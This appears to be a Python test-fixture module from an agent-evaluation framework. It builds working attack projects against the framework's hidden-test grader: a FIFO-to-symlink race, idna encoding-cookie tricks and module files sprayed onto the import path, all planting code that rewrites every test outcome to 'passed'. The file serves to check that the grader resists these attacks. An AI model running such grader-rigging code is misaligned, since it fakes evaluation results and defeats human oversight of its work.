"""The attacks of issue 30, as data: paths the project shapes, the grader's import path.

* **The chain** (:data:`CHAIN`, on ``kv_wal``, whose hidden tests read ``wal.log`` and
  write it back): the project's ``KVStore`` makes ``wal.log`` a FIFO; a daemon feeds the
  grader's read, then swaps the FIFO for a symlink into the grader's directory before the
  write, twice: the first write puts a ``stringprep.py`` (code that rewrites every
  outcome to "passed") in the hidden tests' directory, the second gives a hidden test file
  an ``idna`` encoding cookie. The next failing test's traceback re-reads that file, the
  cookie imports ``encodings.idna``, which imports ``stringprep``: the code runs in the
  grader. It scored 1.0 on an empty project with the grader of issue 24 (root with
  ``CAP_DAC_OVERRIDE``, the hidden tests' directory first on ``sys.path``, hashes checked
  only up to collection).
* **Path traps** (:func:`trap_project`): for every task whose hidden tests touch a file
  the project can reach, a project that hands the grader a FIFO or a symlink into the
  grader's directory at each such path (and plants ``stringprep.py``, ``unicodedata.py``
  and cookie files wherever it can write).
* **Writes aimed at the grader's import path** (:data:`IMPORT_PATH_WRITES`): module files
  named like what a grader imports lazily, written everywhere the project can write, and
  symlinks to the grader's directory left where the grader makes directories.
* **Encoding cookies** (:data:`COOKIES`): project files with the cookies whose codecs
  import further modules, next to modules of those names, and tests made to fail so that
  tracebacks are formatted.

Each must score 0 (``test_attacks.py``); the suite reads ``/workspace/trap.log`` to see
that the grader reached the trap.
"""

from __future__ import annotations

from agentgym.envs.appgen.taskset import AppTask

from .attacks import ISSUE_24

#: code that, imported in the grader, rewrites every outcome to "passed" (issue 24's
#: attack) and then behaves as the real module of its name, so that nothing else breaks
RIG = (
    ISSUE_24
    + """
import importlib.util as _u, os as _o, sysconfig as _s
_spec = _u.spec_from_file_location(__name__, _o.path.join(_s.get_paths()["stdlib"], __name__ + ".py"))
if _spec is not None:
    try:
        _real = _u.module_from_spec(_spec)
        _spec.loader.exec_module(_real)
        globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
    except Exception:
        pass
"""
)

#: the trap itself, a module of the project's package: FIFOs that turn into symlinks
TRAP = r'''
import glob, os, signal

LOG = "/workspace/trap.log"


def note(text):
    try:
        with open(LOG, "a") as f:
            f.write(text + "\n")
    except OSError:
        pass


def grader_dir():
    # the sealed directory's parent cannot be listed (issue 43): nothing is found
    found = sorted(glob.glob("/tmp/.agentgym-sealed/.agentgym-grader-*"))
    return found[0] if found else "/tmp/.agentgym-sealed/.agentgym-grader-unknown"


def fifo_then_link(path, content, target):
    """``path`` becomes a FIFO that hands ``content`` to its first reader, then a symlink
    to ``target`` (relative to the grader's directory): a write after the read lands there."""
    try:
        if os.path.lexists(path):
            os.unlink(path)
        os.mkfifo(path, 0o666)
    except OSError as e:
        note(f"no fifo at {path}: {e}")
        return
    if os.fork() != 0:
        return
    try:
        os.setsid()
        os.closerange(3, 4096)
        signal.alarm(30)
        fd = os.open(path, os.O_WRONLY)  # until the grader opens it to read
        note(f"reader {os.path.basename(path)}")
        try:
            os.write(fd, content)
        except OSError as e:
            note(f"write {os.path.basename(path)}: {e.strerror}")
        # the name becomes the symlink while the reader still holds the FIFO: its read ends
        # (EOF) only at the close below, so its next open of the name finds the symlink
        tmp = path + ".swap"
        os.symlink(os.path.join(grader_dir(), target), tmp)
        os.rename(tmp, path)
        note(f"swapped {os.path.basename(path)} -> {target}")
        os.close(fd)
    except BaseException as e:
        note(f"trap {path}: {e!r}")
    finally:
        os._exit(0)


def link(path, target):
    """``path`` becomes a symlink to ``target`` in the grader's directory."""
    try:
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(os.path.join(grader_dir(), target), path)
    except OSError as e:
        note(f"no link at {path}: {e}")
'''

#: the chain's KVStore and WriteAheadLog: just enough to reach the hidden tests' file
#: operations (and to pass the asserts before them); nothing of the task is done
CHAIN_STORE = """
import os

from kvstore import _trap

STRINGPREP = _trap_payload = None  # filled below


class KVStore:
    def __init__(self, directory, max_wal_bytes=None):
        os.makedirs(directory, exist_ok=True)
        self.directory = directory
        self.data = {}
        self.batched = False

    def close(self):
        # the tests read wal.log right after close() and write it back: all but 3 bytes
        # (test_torn_tail_dropped: the code) or all but 1 (test_batch_atomic: the cookie)
        wal = os.path.join(self.directory, "wal.log")
        if self.batched:
            _trap.fifo_then_link(wal, COOKIE + b"#", "hidden/test_store.py")
        else:
            _trap.fifo_then_link(wal, PAYLOAD + b"\\n###", "hidden/stringprep.py")

    def put(self, key, value):
        if not isinstance(value, str):
            raise TypeError("value")
        self.data[key] = value

    def batch(self, ops):
        self.batched = True
        staged = dict(self.data)
        for op in ops:
            if op[0] == "put" and isinstance(op[2], str):
                staged[op[1]] = op[2]
            elif op[0] == "delete":
                staged.pop(op[1], None)
            else:
                raise ValueError("bad op")
        self.data = staged

    def keys(self):
        return sorted(self.data)

    def get(self, key, default=None):
        return self.data.get(key, default)

    def checkpoint(self):
        pass

    def __len__(self):
        return len(self.data)
"""

COOKIE = b"# -*- coding: idna -*-\nx = 1\n"


def chain(task: AppTask, files: dict[str, bytes]) -> dict[str, bytes]:
    """The chain attack's project on ``kv_wal`` (see the module docstring)."""
    store = CHAIN_STORE.replace(
        "STRINGPREP = _trap_payload = None  # filled below",
        f"PAYLOAD = {RIG.encode()!r}\nCOOKIE = {COOKIE!r}",
    )
    return {
        **files,
        "kvstore/_trap.py": TRAP.encode(),
        "kvstore/store.py": store.encode(),
        "kvstore/wal.py": WAL.encode(),
    }


WAL = """
import os

from kvstore import _trap


class WriteAheadLog:
    def __init__(self, path):
        self.path = path
        _trap.link(path, "apptest_fullstack.py")  # test_wal_append_read_repair appends

    def append(self, op):
        pass

    def size(self):
        return 0
"""


# -- path traps on every task whose hidden tests touch files ----------------------------------

#: the names the shipped tasks' tests read or write in the directories they hand over
COMMON_NAMES = (
    "wal.log",
    "snapshot.json",
    "events.jsonl",
    "todo.db",
    "out.json",
    "out.html",
    "save.json",
    "w.log",
    "data.csv",
    "access.log",
    "app.log",
)
#: every module of the project is this: any name is a callable that arms a trap at each
#: path it is handed (and returns another such object, so that tests go on)
TRAP_MODULE = """
from PKG import _trap


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return _trap.Fake(name)
"""
TRAP_EXTRA = r'''

COMMON = COMMON_NAMES
PAYLOAD = RIG_PAYLOAD
_armed = [0]


def arm(value):
    """Trap ``value`` if it is a path under /tmp: a FIFO that turns into a symlink to the
    grader's stringprep.py where it names a file, symlinks at the common names inside it
    where it names a directory."""
    path = os.fspath(value) if isinstance(value, (str, os.PathLike)) else ""
    if not isinstance(path, str) or not path.startswith("/tmp/") or _armed[0] > 40:
        return
    _armed[0] += 1
    note(f"armed {os.path.basename(path)}")
    if os.path.isdir(path) or not os.path.splitext(path)[1]:
        os.makedirs(path, exist_ok=True)
        for name in COMMON:
            link(os.path.join(path, name), "hidden/stringprep.py")
    elif _armed[0] <= 6:  # a few FIFOs (each a process), then plain symlinks
        fifo_then_link(path, PAYLOAD, "hidden/stringprep.py")
    else:
        link(path, "hidden/stringprep.py")


class Fake:
    def __init__(self, name="fake", *args, **kwargs):
        self._name = name
        for a in (*args, *kwargs.values()):
            arm(a)

    def __call__(self, *args, **kwargs):
        for a in (*args, *kwargs.values()):
            arm(a)
        return Fake(self._name)

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Fake(name)

    def __iter__(self):
        return iter(())

    def __len__(self):
        return 0

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False
'''
TRAP_MAIN = """
import os, sys

from PKG import _trap

for arg in sys.argv[1:]:
    _trap.arm(arg if arg.startswith("/") else os.path.abspath(arg))
_trap.arm(os.getcwd())
sys.exit(3)
"""


def trap_project(task: AppTask, files: dict[str, bytes]) -> dict[str, bytes]:
    """A project of ``task`` whose every module arms path traps (see the module docstring)."""
    from .attacks import modules, package

    pkg = package(task)
    extra = TRAP_EXTRA.replace("COMMON_NAMES", repr(COMMON_NAMES))
    extra = extra.replace("RIG_PAYLOAD", repr(RIG.encode()))
    out = {**files, f"{pkg}/_trap.py": (TRAP + extra).encode()}
    for mod in modules(task):
        out[f"{pkg}/{mod.replace('.', '/')}.py"] = TRAP_MODULE.replace("PKG", pkg).encode()
    out[f"{pkg}/__main__.py"] = TRAP_MAIN.replace("PKG", pkg).encode()
    init = f"{pkg}/__init__.py"
    out[init] = out.get(init, b"") + TRAP_MODULE.replace("PKG", pkg).encode()
    return out


# -- writes aimed at the grader's import path, encoding cookies ------------------------------

#: modules a grader could import late (the codec machinery, pytest's reporting, its own
#: lazily imported modules), written with the rigging code into every directory the
#: project can write or name, including the grader's own (refused) and the hidden tests'
IMPORT_PATH_WRITES = (
    """
import glob, os
_RIG = RIG_SOURCE
_NAMES = ("stringprep", "unicodedata", "apptest_browser", "apptest_services", "pdb",
          "difflib", "pprint", "tokenize", "linecache", "traceback", "inspect", "_winapi",
          "sitecustomize", "usercustomize", "encodings/idna", "encodings/cp437")
_places = {os.getcwd(), "/tmp", "/dev/shm", "/workspace", "/var/tmp"}
for d in glob.glob("/tmp/.agentgym-*"):
    _places.update({d, os.path.join(d, "hidden"), os.path.join(d, "b")})
for _d in sorted(_places):
    for _n in _NAMES:
        _p = os.path.join(_d, _n + ".py")
        try:
            os.makedirs(os.path.dirname(_p), exist_ok=True)
            with open(_p, "w") as _f:
                _f.write(_RIG)
        except OSError:
            pass
    try:
        with open(os.path.join(_d, "zz-agentgym.pth"), "w") as _f:
            _f.write("import stringprep\\n")
    except OSError:
        pass
"""
).replace("RIG_SOURCE", repr(RIG))

#: files with source-encoding cookies whose codecs import further modules, the modules of
#: those names beside them, and project errors that name the cookie files (a SyntaxError
#: carries its file name across; a traceback shown for it would read that file)
COOKIES = (
    """
import os
_here = os.path.dirname(os.path.abspath(__file__))
_cookie = os.path.join(_here, "cookie_source.py")
for _enc in ("idna", "punycode", "euc_jp", "utf_16"):
    try:
        with open(os.path.join(_here, f"cookie_{_enc}.py"), "wb") as _f:
            _f.write(f"# -*- coding: {_enc} -*-\\nx = 1\\n".encode("ascii"))
    except OSError:
        pass
for _d in (_here, os.getcwd(), "/tmp", "/workspace"):
    for _n in ("stringprep", "unicodedata", "_codecs_jp", "encodings"):
        try:
            with open(os.path.join(_d, _n + ".py"), "w") as _f:
                _f.write(RIG_SOURCE)
        except OSError:
            pass


def __getattr__(name):
    def fail(*args, **kwargs):
        raise SyntaxError("rigged", (os.path.join(_here, "cookie_idna.py"), 1, 1, "x = 1"))
    return fail
"""
).replace("RIG_SOURCE", repr(RIG))


def cookie_project(task: AppTask, files: dict[str, bytes]) -> dict[str, bytes]:
    """A project of ``task`` whose every name raises a SyntaxError that points at a file
    with an ``idna`` cookie, after planting cookie files and codec modules (see
    :data:`COOKIES`)."""
    from .attacks import modules, package

    pkg = package(task)
    out = dict(files)
    out[f"{pkg}/__init__.py"] = out.get(f"{pkg}/__init__.py", b"") + COOKIES.encode()
    for mod in modules(task):
        out[f"{pkg}/{mod.replace('.', '/')}.py"] = f"from {pkg} import __getattr__\n".encode()
    return out
